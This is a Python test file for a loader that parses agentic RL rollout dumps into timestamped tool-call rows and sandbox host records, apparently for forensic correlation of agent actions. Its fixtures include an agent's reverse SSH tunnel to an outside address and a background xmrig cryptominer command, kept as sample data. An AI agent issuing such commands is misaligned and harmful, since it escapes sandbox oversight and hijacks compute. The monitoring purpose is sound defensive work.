"""roll_dump: ROLL agentic rollout dumps -> tool calls in their trajectory's window, and HOSTS rows."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from loader_helpers import ns, rows

from correlate.errors import StrictRejection
from correlate.loaders import MIN_SCORE, LoadOptions, LoadResult, detect
from correlate.loaders import roll_dump as loader
from correlate.sources import Source

TESTS = Path(__file__).resolve().parent
DATA = TESTS / "data" / "roll_dump"
DUMP = DATA / "rollout_dump_data.step_230.jsonl"
TRAPS = DATA / "traps.step_9.jsonl"
RAGGED = DATA / "ragged_columns.step_10.jsonl"

SSH = "ssh -fNR 2222:localhost:22 -o StrictHostKeyChecking=no tunnel@203.0.113.7"
TRAJ_1 = "RockTBNativeEnv_230_230_3_12_4471_98765_20251202_142001_482913"
TRAJ_3 = "RockTBNativeEnv_230_230_4_17_4480_98765_20251202_142230_250000"
WINDOW_NOTE = (
    "inferred: the trajectory's window (traj_save_time - trajectory.total_time); "
    "ROLL dumps have no per-call times"
)
UTC_NOTE = "no zone: assumed UTC (ROLL writes the trainer's local time; use --tz roll_dump=ZONE)"
SHANGHAI = LoadOptions(zones={"roll_dump": ZoneInfo("Asia/Shanghai")})


def shown(path: Path) -> str:
    try:
        return str(path.relative_to(TESTS.parent))
    except ValueError:
        return path.name


def load(path: Path, options: LoadOptions | None = None, display: str | None = None) -> LoadResult:
    source = Source(path, display or shown(path))
    detection = detect(source)
    assert detection.name == "roll_dump"
    return detection.loader.read(source, options or LoadOptions())


def by_call(table: pa.Table) -> dict[str, dict[str, Any]]:
    return {row["call_id"]: row for row in rows(table)}


def reject_list(result: LoadResult) -> list[tuple[int, str]]:
    return [(r.location.line, r.reason) for r in result.rejects]


def assert_balanced(result: LoadResult) -> None:
    stats = result.stats
    assert stats.read == stats.loaded + stats.rejected + sum(stats.skipped.values())
    assert stats.loaded == result.table.num_rows
    assert stats.unit == "records"


# --- golden rows ---------------------------------------------------------------------------------


def test_ssh_call_gets_its_trajectory_window_and_sandbox_identity():
    row = by_call(load(DUMP).table)["call_nV0FRhCxFRSXdZ940hunrHPz"]
    assert row == {
        "call_id": "call_nV0FRhCxFRSXdZ940hunrHPz",
        "run_id": "rome-rl-0423",
        "episode_id": TRAJ_1,
        "step": 2,  # the second assistant turn
        # traj_save_time 2025-12-02T14:20:01.483020 (naive, read as UTC) minus 612.4567 s
        "ts_start": ns("2025-12-02T14:09:49.02632Z"),
        "ts_end": ns("2025-12-02T14:20:01.48302Z"),
        "ts_kind": "inferred",
        "tool": "run_shell_command",
        "command": SSH,
        "arguments": json.dumps({"command": SSH, "description": "Keep a connection for later"}),
        "output": "ssh: connect to host 203.0.113.7 port 22: Connection timed out",
        "exit_code": None,
        "is_error": None,
        "host": "sandbox-3f9a1c2e",
        "host_ip": "192.168.10.13",
        "model": None,
        "train_step": 230,
        "ts_note": f"{WINDOW_NOTE}; {UTC_NOTE}",
        "source_format": "roll_dump",
        "source_path": "tests/data/roll_dump/rollout_dump_data.step_230.jsonl",
        "source_line": 1,
    }


def test_zone_option_reads_the_naive_save_time_in_the_trainer_zone_without_the_hint():
    row = by_call(load(DUMP, SHANGHAI).table)["call_nV0FRhCxFRSXdZ940hunrHPz"]
    assert row["ts_end"] == ns("2025-12-02T06:20:01.48302Z")
    assert row["ts_start"] == ns("2025-12-02T06:09:49.02632Z")
    assert row["ts_note"] == f"{WINDOW_NOTE}; no zone: assumed Asia/Shanghai"


def test_star_zone_applies_too_and_other_formats_zones_do_not():
    star = by_call(load(DUMP, LoadOptions(zones={"*": ZoneInfo("Asia/Shanghai")})).table)
    assert star["call_nV0FRhCxFRSXdZ940hunrHPz"]["ts_end"] == ns("2025-12-02T06:20:01.48302Z")
    other = by_call(load(DUMP, LoadOptions(zones={"otlp_json": ZoneInfo("Asia/Shanghai")})).table)
    assert other["call_nV0FRhCxFRSXdZ940hunrHPz"]["ts_end"] == ns("2025-12-02T14:20:01.48302Z")


def test_older_roll_timing_and_editor_calls_and_long_outputs():
    calls = by_call(load(DUMP).table)
    editor = calls["call_9a8e7d6c5b4a39281706"]
    assert (editor["tool"], editor["command"], editor["step"]) == ("str_replace_editor", None, 1)
    assert editor["episode_id"] == TRAJ_3
    # no traj_save_time: the compact `timestamp` 20251202_142230_250000; traj_time_env_total 180.25 s
    assert editor["ts_end"] == ns("2025-12-02T14:22:30.25Z")
    assert editor["ts_start"] == ns("2025-12-02T14:19:30Z")
    assert editor["ts_note"].startswith(
        "inferred: the trajectory's window (traj_save_time - traj_time_env_total)"
    )
    miner = calls["call_bb0e3c1d2a4f45e6a7b8"]
    assert miner["command"].startswith("nohup ./xmrig -o stratum+tcp://")
    assert miner["output"] == "x" * 2000 + "... [500 more characters]"
    assert (miner["host"], miner["host_ip"], miner["step"]) == (
        "sandbox-51e0aa93",
        "192.168.10.17",
        2,
    )
    read_file = calls["call_5d2b0c7e13f94a8c9e21"]
    assert read_file["output"] == "from setuptools import setup\nsetup()"
    assert read_file["command"] is None


def test_hosts_rows_name_every_sandbox_from_its_trajectory_start():
    result = load(DUMP, SHANGHAI)
    assert rows(result.hosts) == [
        {
            "host": "sandbox-3f9a1c2e",
            "ip": "192.168.10.13",
            "valid_from": ns("2025-12-02T06:09:49.02632Z"),
            "valid_to": None,
            "kind": None,
            "origin": "trajectory",
            "note": loader.HOST_NOTE,
            "source_format": "roll_dump",
            "source_path": "tests/data/roll_dump/rollout_dump_data.step_230.jsonl",
            "source_line": 1,
        },
        {
            "host": "sandbox-8c2d7b10",  # a trajectory without tool calls still names its sandbox
            "ip": "192.168.10.14",
            "valid_from": ns("2025-12-02T06:10:00.504377Z"),
            "valid_to": None,
            "kind": None,
            "origin": "trajectory",
            "note": loader.HOST_NOTE,
            "source_format": "roll_dump",
            "source_path": "tests/data/roll_dump/rollout_dump_data.step_230.jsonl",
            "source_line": 2,
        },
        {
            "host": "sandbox-51e0aa93",
            "ip": "192.168.10.17",
            "valid_from": ns("2025-12-02T06:19:30Z"),
            "valid_to": None,
            "kind": None,
            "origin": "trajectory",
            "note": loader.HOST_NOTE,
            "source_format": "roll_dump",
            "source_path": "tests/data/roll_dump/rollout_dump_data.step_230.jsonl",
            "source_line": 3,
        },
    ]


def test_dump_accounting():
    result = load(DUMP)
    assert_balanced(result)
    assert (result.stats.read, result.stats.loaded, result.stats.rejected) == (6, 5, 0)
    assert result.stats.skipped == {"trajectory without tool calls": 1}
    assert result.stats.notes[f"{WINDOW_NOTE}; {UTC_NOTE}"] == 3


# --- malformed -----------------------------------------------------------------------------------


def test_traps_reject_exactly_the_bad_trajectories():
    result = load(TRAPS)
    assert reject_list(result) == [
        (
            2,
            "trajectory 2: trajectory_data is not valid JSON (JSONDecodeError: Expecting property name enclosed in double quotes: line 1 co)",
        ),
        (3, "trajectory 3: env_info.sandbox_ip is not an IP address: 'None'"),
        (4, "trajectory 4: tool call 1 has no function.name"),
        (5, "trajectory 5: timing_info.traj_save_time: not an ISO 8601 time: 'yesterday'"),
        (
            6,
            "trajectory 6: messages is not valid JSON (JSONDecodeError: Expecting value: line 1 column 40 (char 39))",
        ),
        (9, "trajectory 9: no trajectory time (timing_info.traj_save_time, timestamp)"),
    ]
    assert result.stats.rejected == 7  # trajectory 3 held two calls
    assert result.stats.skipped == {
        "tool call repeated in another message list of the trajectory": 1,
        "trajectory without tool calls": 1,
    }
    assert (result.stats.read, result.stats.loaded) == (14, 5)
    assert_balanced(result)


def test_traps_rows_that_load_and_their_notes():
    loaded = {row["source_line"]: row for row in rows(load(TRAPS).table)}
    assert sorted(loaded) == [1, 4, 7, 8, 11]
    assert (loaded[1]["host"], loaded[1]["host_ip"]) == ("sandbox-aa000001", None)
    assert (loaded[4]["call_id"], loaded[4]["command"]) == ("call_t4b", "whoami")  # `cmd` key
    assert loaded[7]["call_id"] == "call_t7"
    assert loaded[8]["ts_start"] == loaded[8]["ts_end"] == ns("2025-12-02T15:07:00Z")
    assert loaded[8]["ts_note"] == (
        "inferred: the trajectory's save time only (trajectory.total_time unreadable; "
        f"the calls ran before it); {UTC_NOTE}"
    )
    # an explicit offset needs no zone assumption
    assert loaded[11]["ts_end"] == ns("2025-12-02T07:10:00Z")
    assert loaded[11]["ts_start"] == ns("2025-12-02T07:09:58.5Z")
    assert loaded[11]["ts_note"] == WINDOW_NOTE
    assert all(row["train_step"] == 9 for row in loaded.values())  # from the file name


def test_traps_hosts_skip_trajectories_without_an_address():
    hosts = rows(load(TRAPS).hosts)
    assert [(h["host"], h["ip"], h["source_line"]) for h in hosts] == [
        ("sandbox-aa000004", "192.168.10.40", 4),
        ("sandbox-aa000010", "192.168.10.41", 10),
    ]


def test_ragged_and_foreign_lines():
    result = load(RAGGED)
    assert reject_list(result) == [
        (
            1,
            "line 1: columns differ in length (trajectory_data 2, messages 1, exp_name 2, "
            "global_step 2): trajectories cannot be paired",
        ),
        (
            3,
            "line 3: not valid JSON (JSONDecodeError: Expecting value: line 1 column 22 (char 21))",
        ),
        (3, "line 5: trajectory_data is not a list (expected ROLL's column dump)"),
    ]
    assert result.stats.rejected == 4  # the ragged line held two trajectories
    assert result.stats.skipped == {
        "blank line": 1,
        "not an agentic rollout (no trajectory_data column)": 2,
    }
    got = rows(result.table)
    assert {(row["source_line"], row["train_step"]) for row in got} == {(3, 10)}
    assert len(got) == 2
    assert_balanced(result)


def test_strict_stops_at_the_first_rejected_trajectory():
    with pytest.raises(StrictRejection, match=rf"^{re.escape(shown(TRAPS))}:2: trajectory 2: "):
        load(TRAPS, LoadOptions(strict=True))


def test_train_step_falls_back_to_global_step_when_the_name_has_none(tmp_path):
    copy = tmp_path / "dump.jsonl"
    copy.write_text(
        DUMP.read_text().replace('"global_step": [230, 230, 230]', '"global_step": [7, 7, 7]')
    )
    assert {row["train_step"] for row in rows(load(copy).table)} == {7}


# --- sniffing ------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", [DUMP, TRAPS, RAGGED], ids=lambda p: p.name)
def test_own_samples_sniff_high(path):
    source = Source(path, shown(path))
    assert loader.sniff(source.head(), source.name) >= 0.9


def test_an_rlvr_dump_sniffs_by_name_and_loads_nothing(tmp_path):
    path = tmp_path / "rollout_dump_data.step_3.jsonl"
    path.write_text(json.dumps({"prompt": ["a"], "responses": ["b"], "global_step": [3]}) + "\n")
    assert loader.sniff(path.read_bytes(), path.name) == 0.7
    result = load(path)
    assert result.table.num_rows == 0
    assert result.stats.skipped == {"not an agentic rollout (no trajectory_data column)": 1}


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("x.jsonl", b'{"trajectory_id": "a", "messages": []}\n'),
        ("x.jsonl", b'{"data": {"trajectory_data": [1]}}\n'),
        ("rollout_dump_data.step_3.jsonl", b"trajectory_data,global_step\n"),
        ("traj.json", b'[{"trajectory_data": []}]\n'),
        ("traces.jsonl", b'{"resourceSpans": []}\n'),
    ],
)
def test_near_misses_do_not_sniff(filename, content):
    assert loader.sniff(content, filename) < MIN_SCORE


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300))
def test_sniff_never_raises_on_any_bytes(head):
    assert 0.0 <= loader.sniff(head, "rollout_dump_data.step_1.jsonl") <= 1.0


def test_values_json_refuses_or_arrow_cannot_store_are_rejects_or_replaced(tmp_path):
    """A 4,300+ digit integer or nesting too deep for Python's json rejects its trajectory (or
    line); a lone surrogate escape in a sandbox id becomes U+FFFD in its rows and HOSTS row."""
    record = json.loads(DUMP.read_text())
    first = json.loads(record["trajectory_data"][0])
    first["env_info"]["sandbox_id"] = "sandbox-\ud800"
    record["trajectory_data"][0] = json.dumps(first)
    record["messages"][1] = '[[{"role": "user", "x": ' + "[" * 1200 + "]" * 1200 + "}]]"
    record["trajectory_data"][2] = record["trajectory_data"][2][:-1] + ', "n": ' + "7" * 4400 + "}"
    path = tmp_path / "rollout_dump_data.step_230.jsonl"
    path.write_text(json.dumps(record) + "\n" + '{"global_step": ' + "8" * 4400 + "}\n")
    result = load(path)
    assert_balanced(result)
    assert {row["host"] for row in rows(result.table)} == {"sandbox-\ufffd"}
    assert [h["host"] for h in rows(result.hosts)] == ["sandbox-\ufffd"]
    assert [r.location.line for r in result.rejects] == [2, 3, 4]
